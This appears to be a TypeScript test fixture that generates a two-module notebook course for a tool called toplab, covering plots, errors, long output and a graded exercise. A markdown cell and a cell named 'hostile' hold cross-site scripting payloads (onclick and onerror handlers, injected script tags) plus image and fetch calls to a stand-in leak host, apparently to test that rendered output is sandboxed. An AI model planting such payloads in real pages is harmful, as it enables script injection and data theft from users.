import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";

/** A course of two modules in a folder of its own, inside the project so that its cells find toplab. */
export interface SmallCourse {
  readonly root: string;
  remove(): void;
}

interface FixtureCell {
  readonly id: string;
  readonly text?: string;
  readonly code?: string;
  readonly exercise?: string;
}

export function smallCourse(): SmallCourse {
  mkdirSync(".cache", { recursive: true });
  const root = mkdtempSync(resolve(".cache", "course-"));
  mkdirSync(join(root, "notebooks"));
  writeNotebook(join(root, "notebooks", "01-first.ipynb"), firstCells, {
    title: "A first look",
    minutes: 25,
    summary: "Plots, errors and one question.",
  });
  writeNotebook(
    join(root, "notebooks", "02-second.ipynb"),
    [{ id: "text", text: "# The second module\n\nIts *first* paragraph." }],
    {},
  );
  const exercise = join(root, "exercises", "dist", "01-first", "answer");
  mkdirSync(exercise, { recursive: true });
  mkdirSync(join(root, "exercises", "01-first", "answer"), { recursive: true });
  writeFileSync(join(exercise, "exercise.js"), exerciseModule);
  writeFileSync(join(exercise, "probe.js"), probeModule);
  return { root, remove: () => rmSync(root, { recursive: true, force: true }) };
}

function writeNotebook(path: string, cells: readonly FixtureCell[], toplab: object): void {
  const notebook = {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { toplab },
    cells: cells.map(({ id, text, code, exercise }) => ({
      cell_type: code === undefined ? "markdown" : "code",
      id,
      metadata: exercise === undefined ? {} : { toplab: { exercise } },
      source: code ?? text ?? "",
      ...(code === undefined ? {} : { execution_count: null, outputs: [] }),
    })),
  };
  writeFileSync(path, JSON.stringify(notebook));
}

const circle = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 80" width="200" height="80"><circle cx="100" cy="40" r="30" fill="teal"/></svg>`;
const figure = {
  data: [{ x: [1, 2, 3, 4], y: [2, 8, 5, 1], type: "bar", name: "events" }],
  layout: { title: { text: "Invariant mass" } },
};

const firstCells: readonly FixtureCell[] = [
  {
    id: "opening",
    text: '# A first look\n\nThe mass of a pair is $m = \\sqrt{E^2 - p^2}$, that is\n\n$$\nm^2 = E^2\n- p^2\n$$\n\nand <b onclick="window.stolen=1">bold</b> <script>window.stolen=1</script> costs \\$5.',
  },
  { id: "value", code: "let mass = 91.1876;\nmass" },
  { id: "later", code: 'console.log("m =", mass, "GeV");\nmass * 2' },
  {
    id: "picture",
    code: `import { display, mimeBundle } from "toplab/core";
console.log("before the picture");
display({ [mimeBundle]: () => ({ "image/svg+xml": ${JSON.stringify(circle)}, "text/plain": "a circle" }) });
console.log("after the picture");
display({ [mimeBundle]: () => ({ "application/vnd.plotly.v1+json": ${JSON.stringify(figure)} }) });`,
  },
  {
    id: "hostile",
    code: `import { display as show, mimeBundle as bundle } from "toplab/core";
const html = (text: string) => show({ [bundle]: () => ({ "text/html": text }) });
html('<table><tr><th>pt</th></tr><tr><td onclick="window.stolen=1">41.2</td></tr></table><img src="x" onerror="window.stolen=1"><img src="http://192.0.2.1/leak.png">');
html('<p id="own">frame</p><script>document.getElementById("own").textContent = "alive"; try { parent.stolen = 1 } catch {} fetch("http://192.0.2.1/leak")</script>');`,
  },
  { id: "stub", code: "const answer = 42;", exercise: "01-first/answer" },
  { id: "check", code: 'import { check } from "toplab/grade";\nawait check("answer")' },
  { id: "long", code: 'for (let i = 1; i <= 2000; i++) console.log("line " + i);' },
  { id: "colours", code: "console.log('\\u001b[31mred\\u001b[0m and \\u001b[1mbold\\u001b[0m');" },
  { id: "failing", code: 'throw new Error("the beam is off");' },
  { id: "behind", code: 'console.log("never reached by run all");' },
];

const exerciseModule = `export const exercise = {
  id: "01-first/answer", title: "The answer", points: 2, answers: ["answer"], hints: ["Think of 42."], wrong: [],
  inputs: () => ({}), reference: () => 42,
  judge: ({ answer }, { reference }) => answer === reference
    ? { status: "pass", credit: 1, reason: "Correct." }
    : { status: "fail", credit: 0, reason: "Not yet." },
};
`;
const probeModule = "export const probe = ({ answer }) => ({ answer });\n";
